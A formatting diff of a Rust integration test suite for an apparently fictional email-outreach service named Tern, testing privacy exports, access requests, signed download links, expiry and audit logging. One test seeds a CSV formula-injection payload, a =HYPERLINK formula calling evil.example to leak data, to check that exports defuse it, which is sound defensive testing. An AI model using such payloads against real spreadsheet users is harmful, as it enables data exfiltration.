@@ -18,8 +18,8 @@ use serde_json::{Value, json};
 use std::collections::BTreeMap;
 use std::io::Read;
 use std::time::Duration;
-use tern_domain::clock::Clock;
 use tern_devhost::{DevHost, MailDelivery, WebsiteFetch};
+use tern_domain::clock::Clock;
 use tern_mailsink::{MailSink, SinkOptions, TlsMode};
 use tern_tests::{call, eventually, observer_clients, start_dev_host_custom};
 use time::macros::datetime;
@@ -48,7 +48,14 @@ async fn run_task(host: &DevHost, ws: &str, path: &str, body: Option<Value>) -> 
 /// Fetches a finished export through its download link; the link and the zip's files.
 async fn download(host: &DevHost, ws: &str, task: &Value) -> (Value, BTreeMap<String, Vec<u8>>) {
     let owner = token(host, OWNER).await;
-    let (status, link) = call(host, Method::GET, &format!("/v1/workspaces/{ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()), Some(&owner), None).await;
+    let (status, link) = call(
+        host,
+        Method::GET,
+        &format!("/v1/workspaces/{ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()),
+        Some(&owner),
+        None,
+    )
+    .await;
     assert_eq!(status, StatusCode::OK, "{link}");
     let response = reqwest::get(link["url"].as_str().unwrap()).await.unwrap();
     assert_eq!(response.status(), StatusCode::OK);
@@ -98,14 +105,23 @@ async fn kinds_in_table(host: &DevHost, ws: &str) -> BTreeMap<String, usize> {
 
 #[tokio::test]
 async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_can_read_theirs() {
-    let sink = MailSink::start(SinkOptions { mode: TlsMode::StartTls, credentials: Some(("ann".into(), SMTP_PASSWORD.into())) }).await.unwrap();
+    let sink =
+        MailSink::start(SinkOptions { mode: TlsMode::StartTls, credentials: Some(("ann".into(), SMTP_PASSWORD.into())) }).await.unwrap();
     let (site_port, _) = website().await;
     let (smtp_port, cert) = (sink.port(), sink.certificate_der());
     let host = start_dev_host_custom("export", move |options| {
-        options.mail_delivery = MailDelivery { policy: tern_web::guard::Policy::mail().allow_loopback_for_tests(smtp_port), extra_roots: vec![cert], resolver: None };
+        options.mail_delivery = MailDelivery {
+            policy: tern_web::guard::Policy::mail().allow_loopback_for_tests(smtp_port),
+            extra_roots: vec![cert],
+            resolver: None,
+        };
         options.website_fetch = WebsiteFetch {
             policy: tern_web::guard::Policy::website().allow_loopback_for_tests(site_port),
-            limits: tern_web::fetch::Limits { total_timeout: Duration::from_secs(2), connect_timeout: Duration::from_secs(1), ..Default::default() },
+            limits: tern_web::fetch::Limits {
+                total_timeout: Duration::from_secs(2),
+                connect_timeout: Duration::from_secs(1),
+                ..Default::default()
+            },
             resolver: None,
         };
     })
@@ -113,16 +129,31 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     set_clock(&host, datetime!(2027-06-07 09:00 UTC)); // a Monday
     let (owner, ws) = sign_up(&host, OWNER, "growth").await;
     let (other, other_ws) = sign_up(&host, "olga@other.example", "growth").await;
-    ok(&host, Method::POST, &format!("/v1/workspaces/{other_ws}/contacts"), &other, json!({ "email": FOREIGN, "first_name": "Fremd" })).await;
+    ok(&host, Method::POST, &format!("/v1/workspaces/{other_ws}/contacts"), &other, json!({ "email": FOREIGN, "first_name": "Fremd" }))
+        .await;
 
     // Seeded across the features.
     let site = format!("http://127.0.0.1:{site_port}/");
-    let erika = ok(&host, Method::POST, &format!("/v1/workspaces/{ws}/contacts"), &owner, json!({ "email": ERIKA, "first_name": "Erika", "last_name": "Mustermann", "title": "Geschäftsführerin", "website": site })).await;
+    let erika = ok(
+        &host,
+        Method::POST,
+        &format!("/v1/workspaces/{ws}/contacts"),
+        &owner,
+        json!({ "email": ERIKA, "first_name": "Erika", "last_name": "Mustermann", "title": "Geschäftsführerin", "website": site }),
+    )
+    .await;
     let bob = ok(&host, Method::POST, &format!("/v1/workspaces/{ws}/contacts"), &owner, json!({ "email": BOB, "first_name": "Bob" })).await;
     enrich(&host, &owner, &ws, &site).await;
     let mailbox = smtp_mailbox(&host, &owner, &ws, &sink).await;
     let sequence = default_sequence(&host, &owner, &ws, &mailbox, false).await;
-    ok(&host, Method::POST, &format!("/v1/workspaces/{ws}/sequences/{sequence}/enrollments"), &owner, json!({ "contact_ids": [erika["id"], bob["id"]] })).await;
+    ok(
+        &host,
+        Method::POST,
+        &format!("/v1/workspaces/{ws}/sequences/{sequence}/enrollments"),
+        &owner,
+        json!({ "contact_ids": [erika["id"], bob["id"]] }),
+    )
+    .await;
     let first = eventually("the first steps", Duration::from_secs(30), || async {
         tick_dispatch(&host).await;
         let (e, b) = (to(&sink, ERIKA), to(&sink, BOB));
@@ -137,7 +168,14 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     })
     .await;
     let owner = token(&host, OWNER).await;
-    ok(&host, Method::POST, &format!("/v1/workspaces/{ws}/contacts/{}/notes", erika["id"].as_str().unwrap()), &owner, json!({ "text": NOTE })).await;
+    ok(
+        &host,
+        Method::POST,
+        &format!("/v1/workspaces/{ws}/contacts/{}/notes", erika["id"].as_str().unwrap()),
+        &owner,
+        json!({ "text": NOTE }),
+    )
+    .await;
     let uploaded = reqwest::Client::new()
         .post(format!("{}/v1/workspaces/{ws}/attachments?filename=Deck%202027.pdf", host.base_url()))
         .bearer_auth(&owner)
@@ -150,15 +188,28 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     let attachment: Value = uploaded.json().await.unwrap();
 
     // A member may not export; neither the workspace nor a person.
-    let (_, invite) = call(&host, Method::POST, &format!("/v1/workspaces/{ws}/invites"), Some(&owner), Some(json!({ "email": "mo@export.example", "role": "member" }))).await;
-    let (status, accepted) = call(&host, Method::POST, "/v1/invites/accept", None, Some(json!({ "token": invite["token"], "name": "Mo", "password": crate::outreach::PASSWORD }))).await;
+    let (_, invite) = call(
+        &host,
+        Method::POST,
+        &format!("/v1/workspaces/{ws}/invites"),
+        Some(&owner),
+        Some(json!({ "email": "mo@export.example", "role": "member" })),
+    )
+    .await;
+    let (status, accepted) = call(
+        &host,
+        Method::POST,
+        "/v1/invites/accept",
+        None,
+        Some(json!({ "token": invite["token"], "name": "Mo", "password": crate::outreach::PASSWORD })),
+    )
+    .await;
     assert_eq!(status, StatusCode::CREATED, "{invite} {accepted}");
     tern_tests::verify_email(&host, "mo@export.example", accepted["access_token"].as_str().unwrap()).await;
     let member = token(&host, "mo@export.example").await;
-    for (method, path, body) in [
-        (Method::POST, "privacy/exports", None),
-        (Method::POST, "privacy/access-requests", Some(json!({ "email": ERIKA }))),
-    ] {
+    for (method, path, body) in
+        [(Method::POST, "privacy/exports", None), (Method::POST, "privacy/access-requests", Some(json!({ "email": ERIKA })))]
+    {
         let (status, answer) = call(&host, method, &format!("/v1/workspaces/{ws}/{path}"), Some(&member), body).await;
         assert_eq!((status, answer["error"]["code"].as_str()), (StatusCode::FORBIDDEN, Some("forbidden")), "{path}");
     }
@@ -176,7 +227,21 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
         assert_eq!(lines.len(), *count, "{name}");
         assert_eq!(task["processed_by_kind"][kind], json!(count), "the task counts {kind}");
     }
-    for kind in ["CONTACT", "CONTACTNOTE", "ENROLLMENT", "SEND", "INBOUND", "INBOUNDTEXT", "ENRICHMENT", "MAILBOX", "SEQUENCE", "TEMPLATE", "ATTACHMENT", "MEMBER", "PRIVACYTASK"] {
+    for kind in [
+        "CONTACT",
+        "CONTACTNOTE",
+        "ENROLLMENT",
+        "SEND",
+        "INBOUND",
+        "INBOUNDTEXT",
+        "ENRICHMENT",
+        "MAILBOX",
+        "SEQUENCE",
+        "TEMPLATE",
+        "ATTACHMENT",
+        "MEMBER",
+        "PRIVACYTASK",
+    ] {
         assert!(in_table.contains_key(kind), "seeded: {kind} in {in_table:?}");
     }
     let settings: Value = serde_json::from_str(&text(&files, "workspace.json")).unwrap();
@@ -187,7 +252,10 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     let mut reader = csv::Reader::from_reader(contacts.as_bytes());
     let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
     assert_eq!(rows.len(), 2);
-    assert!(rows.iter().any(|r| &r[1] == ERIKA && &r[2] == "Erika" && &r[3] == "Mustermann" && r[6].contains("Geschäftsführerin")), "{contacts}");
+    assert!(
+        rows.iter().any(|r| &r[1] == ERIKA && &r[2] == "Erika" && &r[3] == "Mustermann" && r[6].contains("Geschäftsführerin")),
+        "{contacts}"
+    );
     let messages = text(&files, "messages.csv");
     assert!(messages.lines().any(|l| l.starts_with("outbound,") && l.contains(ERIKA) && l.contains(",sent,")), "{messages}");
     assert!(messages.lines().any(|l| l.starts_with("inbound,") && l.contains(ERIKA) && l.contains("human")), "{messages}");
@@ -220,7 +288,12 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     let url = reqwest::Url::parse(link["url"].as_str().unwrap()).unwrap();
     let query: BTreeMap<String, String> = url.query_pairs().map(|(k, v)| (k.into_owned(), v.into_owned())).collect();
     assert_eq!(query.get("X-Amz-Expires").map(String::as_str), Some("300"), "{url}");
-    let signed_at = time::PrimitiveDateTime::parse(&query["X-Amz-Date"], time::macros::format_description!("[year][month][day]T[hour][minute][second]Z")).unwrap().assume_utc();
+    let signed_at = time::PrimitiveDateTime::parse(
+        &query["X-Amz-Date"],
+        time::macros::format_description!("[year][month][day]T[hour][minute][second]Z"),
+    )
+    .unwrap()
+    .assume_utc();
     assert!((signed_at - host.clock.now()).abs() < time::Duration::minutes(5), "signed at Tern's now: {signed_at}");
     assert_eq!(link["expires_at"].as_i64().unwrap(), signed_at.unix_timestamp() + 300);
     assert!(query.contains_key("X-Amz-Signature"));
@@ -232,7 +305,14 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     assert!(head.ssekms_key_id.unwrap_or_default().contains(&kms_key_of(&host, &ws).await), "the workspace's own key");
 
     // Another workspace cannot reach this export.
-    let (status, _) = call(&host, Method::GET, &format!("/v1/workspaces/{other_ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()), Some(&other), None).await;
+    let (status, _) = call(
+        &host,
+        Method::GET,
+        &format!("/v1/workspaces/{other_ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()),
+        Some(&other),
+        None,
+    )
+    .await;
     assert_eq!(status, StatusCode::NOT_FOUND);
 
     // A person's access request: what the workspace holds about Erika, readable.
@@ -241,7 +321,17 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     assert!(!access.to_string().contains(ERIKA), "the task does not hold the address: {access}");
     let (_, person) = download(&host, &ws, &access).await;
     let summary = text(&person, "README.txt");
-    for expected in [ERIKA, "Erika Mustermann", "Geschäftsführerin", "E-mails sent to you", "E-mails received from you", "human", "Tuesday works", "public website", NOTE] {
+    for expected in [
+        ERIKA,
+        "Erika Mustermann",
+        "Geschäftsführerin",
+        "E-mails sent to you",
+        "E-mails received from you",
+        "human",
+        "Tuesday works",
+        "public website",
+        NOTE,
+    ] {
         assert!(summary.contains(expected), "`{expected}` in the summary:\n{summary}");
     }
     let data: Value = serde_json::from_str(&text(&person, "person.json")).unwrap();
@@ -254,13 +344,26 @@ async fn a_workspace_export_holds_every_item_and_nothing_foreign_and_a_person_ca
     // After its seven days the export is gone and no link is made for it.
     set_clock(&host, datetime!(2027-06-15 09:00 UTC));
     let owner = token(&host, OWNER).await;
-    let (status, gone) = call(&host, Method::GET, &format!("/v1/workspaces/{ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()), Some(&owner), None).await;
+    let (status, gone) = call(
+        &host,
+        Method::GET,
+        &format!("/v1/workspaces/{ws}/privacy/exports/{}/download", task["id"].as_str().unwrap()),
+        Some(&owner),
+        None,
+    )
+    .await;
     assert_eq!((status, gone["error"]["code"].as_str()), (StatusCode::GONE, Some("export_expired")), "{gone}");
 
     // Each step is on the trail, without the person's address.
     let (_, audit) = call(&host, Method::GET, &format!("/v1/workspaces/{ws}/audit?action=privacy."), Some(&owner), None).await;
     let actions: Vec<&str> = audit["entries"].as_array().unwrap().iter().filter_map(|e| e["action"].as_str()).collect();
-    for action in ["privacy.export_requested", "privacy.export_completed", "privacy.export_downloaded", "privacy.access_export_requested", "privacy.access_export_completed"] {
+    for action in [
+        "privacy.export_requested",
+        "privacy.export_completed",
+        "privacy.export_downloaded",
+        "privacy.access_export_requested",
+        "privacy.access_export_completed",
+    ] {
         assert!(actions.contains(&action), "{action} in {actions:?}");
     }
     assert!(!audit.to_string().contains(ERIKA));
@@ -274,13 +377,20 @@ async fn an_inbound_subject_and_sender_written_as_formulas_are_defused_in_the_ex
     let host = tern_tests::start_dev_host("export-formulas").await;
     let (_, ws) = sign_up(&host, OWNER, "growth").await;
     let subject = r#"=HYPERLINK("http://evil.example/?leak","x")"#;
-    let mail = format!("From: \"@SUM(1+1)\" <=1+1@evil.example>\r\nTo: ann@export.example\r\nSubject: {subject}\r\nMessage-ID: <formula-1@evil.example>\r\n\r\nHello\r\n");
-    let response = crate::inbound::post(&host.base_url(), mail.as_bytes(), &format!("reply+{ws}@in.tern.test"), tern_tests::WEBHOOK_SECRET).await;
+    let mail = format!(
+        "From: \"@SUM(1+1)\" <=1+1@evil.example>\r\nTo: ann@export.example\r\nSubject: {subject}\r\nMessage-ID: <formula-1@evil.example>\r\n\r\nHello\r\n"
+    );
+    let response =
+        crate::inbound::post(&host.base_url(), mail.as_bytes(), &format!("reply+{ws}@in.tern.test"), tern_tests::WEBHOOK_SECRET).await;
     assert_eq!(response.status(), StatusCode::ACCEPTED);
     let id = response.json::<Value>().await.unwrap()["id"].as_str().unwrap().to_string();
     let table = tern_aws::table::Table::new(observer_clients().dynamodb.clone(), host.config.table.clone());
     let stored = crate::inbound::wait_classified(&table, tern_domain::ids::WorkspaceId::parse(&ws).unwrap(), &id).await;
-    assert_eq!((stored.subject.as_deref(), stored.from.as_deref()), (Some(subject), Some("=1+1@evil.example")), "the attack reaches the store as written");
+    assert_eq!(
+        (stored.subject.as_deref(), stored.from.as_deref()),
+        (Some(subject), Some("=1+1@evil.example")),
+        "the attack reaches the store as written"
+    );
 
     let task = run_task(&host, &ws, "exports", None).await;
     assert_eq!(task["state"], "done", "{task}");
